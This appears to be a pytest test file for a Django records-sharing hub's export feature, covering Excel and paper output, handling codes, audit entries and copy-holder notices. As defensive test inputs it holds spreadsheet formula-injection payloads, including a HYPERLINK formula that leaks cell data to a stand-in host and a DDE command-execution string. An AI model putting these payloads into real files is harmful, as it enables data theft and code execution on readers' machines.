"""What leaves the hub: as what, with which word of warning, who then holds it, and what stays."""

import io
from uuid import uuid4

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from comity.kernel.acting import Task, acting_as, as_task
from comity.kernel.codes.handling_codes import Confidentiality, HandlingCode
from comity.kernel.codes.purposes import Purpose
from comity.kernel.models import Event
from comity.kernel.refusals import Denied, Invalid, NotFound
from comity.kernel.truth import AudienceMode, Tier
from comity.ledger.queries import Search, own_entries
from comity.records.commands import create_record, delete_record, edit_record, restrict_record
from comity.records.exporting.commands import export_records
from comity.records.exporting.rules import EXCEL, MOST_ON_PAPER, Shape
from comity.records.exporting.shapes import entity
from comity.records.exporting.workbook import Sheet, computes, workbook
from comity.records.models import Holding
from comity.records.queries import holders
from comity.records.rules import Draft
from tests.browsing import key_of, with_key
from tests.pages import at_desk, text_of
from tests.people import handling, make_world, thing, wanted

pytestmark = pytest.mark.django_db
WHY = "hearing of 3 May, Nairobi"
HOSTILE = '=HYPERLINK("http://evil.test/?"&A1,"Mutua")'


@pytest.fixture
def world():
    return make_world()


def cells(content, sheet=0):
    page = load_workbook(io.BytesIO(content)).worksheets[sheet]
    return [list(row) for row in page.iter_rows()]


def sent(desk, records, shape, reason=WHY):
    ids = ",".join(str(record.pk) for record in records)
    return desk.post("records:export", ids=ids, shape=shape, reason=reason)


# The workbook


@pytest.mark.parametrize(
    "text",
    [
        HOSTILE,
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1",
        " =1+1",
        "＝1+1",
        "\ufeff=1",
    ],
)
def test_what_begins_like_a_formula_is_text_stays_text_and_is_marked(text):
    ((cell, beside),) = cells(workbook([Sheet("One", ["a", "b"], [[text, "Mutua = 1"]])]))[1:]
    assert computes(text)
    assert (cell.data_type, cell.quotePrefix, cell.fill.fgColor.rgb) == ("s", True, "FFFFF2CC")
    assert cell.value.replace("_x000D_", "\r").strip() == text.strip()
    assert (beside.data_type, beside.quotePrefix, beside.fill.fill_type) == ("s", False, None)


def test_a_cell_holds_no_control_signs_and_no_more_than_excel_does():
    ((long, strange),) = cells(
        workbook([Sheet("a/b:*", ["x" * 10, "y"], [["é" * 40_000, "a\0b\x1b\ud800"]])])
    )[1:]
    assert len(long.value) < 32_767
    assert long.value.endswith("…")
    assert strange.value == "a\ufffdb\ufffd\ufffd"


# Who carries what away


def test_claire_carries_a_list_away_in_excel_and_the_file_says_what_it_is(world):
    mutua = wanted(world.amina, HOSTILE, handling_code=HandlingCode.H1, contested=True)
    van = thing(world.amina, registrationNumber=["KDA 001A"], country=["ke"], make=["Toyota"])
    claire = at_desk(world.claire)
    page = claire.reads("records:export", show="shared")
    assert "Carry 2 records away" in page
    answer = sent(claire, [mutua, van], "excel")
    assert (answer["Content-Type"], answer["Cache-Control"]) == (EXCEL, "private, no-store")
    head, first, second = cells(answer.content)
    names = [cell.value for cell in head]
    row = dict(zip(names, first, strict=True))
    assert (row["Name or number"].value, row["Name or number"].data_type) == (HOSTILE, "s")
    assert (row["Kind"].value, row["Source"].value, row["Birth dates"].value) == (
        "Person", "NCB Nairobi", "1984-03-17",
    )  # fmt: skip
    assert "H1 · Not to be disclosed in court" in row["Handling"].value
    assert "The person contests this record" in row["Handling"].value
    assert second[names.index("Identifier")].value == str(van.pk)
    about = {row[0].value: row[1].value for row in cells(answer.content, 1)}
    assert (about["Taken out by"], about["Bureau"], about["Reason"]) == ("Claire", "NCB Paris", WHY)


def test_each_record_that_left_has_its_entry_and_its_holder_whom_a_deletion_reaches(world):
    records = [wanted(world.amina), thing(world.amina, registrationNumber=["KDA 001A"], country=["ke"])]
    export_records(world.claire, [record.pk for record in records], WHY, Shape.EXCEL)
    with acting_as(world.claire):
        entries = [
            line for line in own_entries(world.claire, Search(limit=9)) if line.verb == "record.exported"
        ]
    found = {line.details.subject: line.details.details for line in entries}
    assert set(found) == {"record:", *(f"record:{record.pk}" for record in records)}
    assert found["record:"]["reason"] == WHY
    assert found["record:"]["records"] == [str(record.pk) for record in records]
    for record in records:
        with acting_as(world.amina):
            assert holders(world.amina, record).exported == 1
        with acting_as(world.claire):
            assert holders(world.claire, record).exported == 0, "not France's to know"
    delete_record(world.amina, records[0].pk, "withdrawn by the court")
    with as_task(Task.DELIVERY):
        assert Event.objects.get(kind="record.deleted").bureau == world.france.pk


def test_an_export_carries_source_and_handling_but_not_who_else_may_see_it(world):
    record = wanted(
        world.amina, mode=AudienceMode.ONLY, bureaus=frozenset({world.france.pk, world.germany.pk})
    )
    (exported,) = export_records(world.claire, [record.pk, record.pk], WHY)
    carried = entity(exported)
    assert carried["handling"]["source"] == str(world.kenya.pk)
    assert carried["handling"]["bureaus"] == [], "who else may see it is the source's own business"


def test_an_export_is_all_or_nothing_needs_a_reason_and_is_bounded(world):
    record = wanted(world.amina)
    for refusal, ids, reason, shape in (
        (NotFound, [record.pk, uuid4()], WHY, Shape.EXCEL),
        (NotFound, [], WHY, Shape.EXCEL),
        (Invalid, [record.pk], "  ", Shape.EXCEL),
        (Invalid, [uuid4() for _ in range(MOST_ON_PAPER + 1)], WHY, Shape.PAPER),
        (Denied, [record.pk], WHY, None),
    ):
        viewer = world.jonas if shape is None else world.claire  # a border officer exports nothing
        with pytest.raises(refusal):
            export_records(viewer, ids, reason, shape or Shape.EXCEL)
    with as_task(Task.DELIVERY):
        assert not Holding.objects.exists()


def test_what_is_shown_but_for_a_hit_or_discreetly_leaves_with_nobody_and_is_not_even_refused(world):
    order = {"tier": Tier.DISCREET, "legal_order": "Order 7/2026"}
    claire = at_desk(world.claire)
    for rules in (
        {"tier": Tier.HIT_NO_HIT},
        order,
        {"mode": AudienceMode.ONLY, "bureaus": frozenset({uuid4()})},
    ):
        hidden = wanted(world.amina, **rules)
        with pytest.raises(NotFound):
            export_records(world.claire, [hidden.pk], WHY)
        assert claire.get("records:export", ids=hidden.pk).status_code == 404
    assert "Nothing leaves" in claire.reads("records:export")


def test_what_its_source_keeps_here_is_read_and_not_carried_away_but_by_its_source(world):
    restricted = wanted(
        world.amina, "Otieno Ouma", handling_code=HandlingCode.H3, handling_note="for the judge alone"
    )
    closed = wanted(world.amina, "Halima Warsame", confidentiality=Confidentiality.CONFIDENTIAL)
    witness = wanted(world.amina, "Esi Mensah", status="witness")
    free = wanted(world.amina)
    claire = at_desk(world.claire)
    page = claire.reads("records:export")
    assert "Carry 1 record away" in page
    for name, why in (
        ("Otieno Ouma", "Its handling code is H3"),
        ("Halima Warsame", "It is confidential, and is read here alone."),
        ("Esi Mensah", "It is of a person who is never screened, and is read here alone."),
    ):
        assert f"{name} {why}" in page
    for record in (restricted, closed, witness):
        with pytest.raises(Denied):
            export_records(world.claire, [free.pk, record.pk], WHY)
        export_records(world.amina, [record.pk], WHY)
    assert sent(claire, [restricted], "excel").status_code == 403
    with as_task(Task.DELIVERY):
        assert not Holding.objects.exists(), "nothing left, and a source is no holder of its own"


def test_what_was_hidden_between_the_look_and_the_export_is_said_on_the_page(world):
    record = wanted(world.amina)
    claire = at_desk(world.claire)
    delete_record(world.amina, record.pk, "withdrawn")
    other = wanted(world.amina, "Wanjiru Kamau")
    answer = sent(claire, [other, record], "excel")
    assert answer.status_code == 400
    assert WHY in answer.content.decode(), "what was typed is not lost"


def test_sheets_of_paper_bear_their_handling_and_who_took_them(world):
    record = create_record(
        world.amina,
        Draft("Person", {"name": ["محمد الأحمد"], "birthDate": ["1990"]}, status="suspect"),
        handling(world.kenya.pk, handling_note="not to the press"),
    )
    page = text_of(sent(at_desk(world.claire), [record], "paper"))
    for words in (
        "Taken out by Claire",
        "محمد الأحمد",
        "not to the press",
        WHY,
        "NCB Nairobi",
        str(record.pk),
    ):
        assert words in page
    text = sent(at_desk(world.claire), [record], "entities").content.decode()
    assert '"handling_note": "not to the press"' in text
    assert "Export or print" in at_desk(world.claire).reads("records:detail", record.pk)
    assert "Export or print" not in at_desk(world.jonas).reads("records:detail", record.pk)


def test_more_than_leaves_at_once_is_said_beforehand(world, monkeypatch):
    monkeypatch.setattr("comity.records.exporting.pages.MOST", 1)
    for name in ("One Person", "Two Persons"):
        wanted(world.amina, name)
    answer = at_desk(world.claire).get("records:export")
    assert answer.status_code == 400
    assert "more than 1 records" in text_of(answer)


def test_programs_get_the_workbook_with_a_reason_alone(world):
    record = wanted(world.amina)
    program = with_key(key_of(world.claire, world.odile)[0])
    for body, status in (({"ids": [str(record.pk)], "reason": WHY}, 200), ({"ids": [str(record.pk)]}, 422)):
        answer = program.post(reverse("api:export_workbook"), body, content_type="application/json")
        assert answer.status_code == status, answer.content
        assert (answer["Content-Type"] == EXCEL) == (status == 200)


def test_an_export_of_many_costs_no_more_queries_than_one(world):
    claire = world.claire
    records = [wanted(world.amina, f"Marek Solberg {n}") for n in range(9)]
    export_records(claire, [records[0].pk], WHY)  # her bureau's key is made now
    with CaptureQueriesContext(connection) as one:
        export_records(claire, [records[0].pk], WHY)
    with CaptureQueriesContext(connection) as many:
        export_records(claire, [record.pk for record in records], WHY)
    assert len(one) == len(many)


# What becomes of copies


def test_corrections_and_withdrawals_reach_whoever_holds_a_copy(world):
    amina, claire = world.amina, at_desk(world.claire)
    kept, corrected, deleted, withdrawn, other = (
        wanted(amina, name)
        for name in ("Kept One", "Corrected One", "Deleted One", "Withdrawn One", "Other One")
    )
    export_records(world.claire, [r.pk for r in (kept, corrected, deleted, withdrawn, other)], WHY)
    assert "Nothing to see to" in claire.reads("records:copies")
    draft = Draft("Person", {**corrected.properties, "birthDate": ["1985"]}, "suspect")
    edit_record(amina, corrected.pk, draft, 1)
    delete_record(amina, deleted.pk, "withdrawn by the court")
    restrict_record(amina, withdrawn.pk, handling(world.kenya.pk, tier=Tier.HIT_NO_HIT))
    restrict_record(amina, other.pk, handling(world.kenya.pk, purposes=frozenset({Purpose.FORENSIC})))
    page = claire.reads("records:copies")
    assert "Corrected One" in page
    for words in ("Out of date", "Deleted by its source", "No longer shared with your bureau"):
        assert page.count(words) == 1
    assert "Kept One" not in page
    assert "Withdrawn One" not in page, "its name is no longer hers to read"
    everything = claire.reads("records:copies", show="all")
    assert "As your bureau took it." in everything
    assert "For another purpose" in everything
    assert claire.post("records:forget_copy", deleted.pk).status_code == 302
    assert "Deleted by its source" not in claire.reads("records:copies")
    assert claire.post("records:forget_copy", deleted.pk).status_code == 404
    assert at_desk(world.jonas).get("records:copies").status_code == 403
    export_records(world.claire, [corrected.pk], WHY)
    assert "Out of date" not in claire.reads("records:copies")
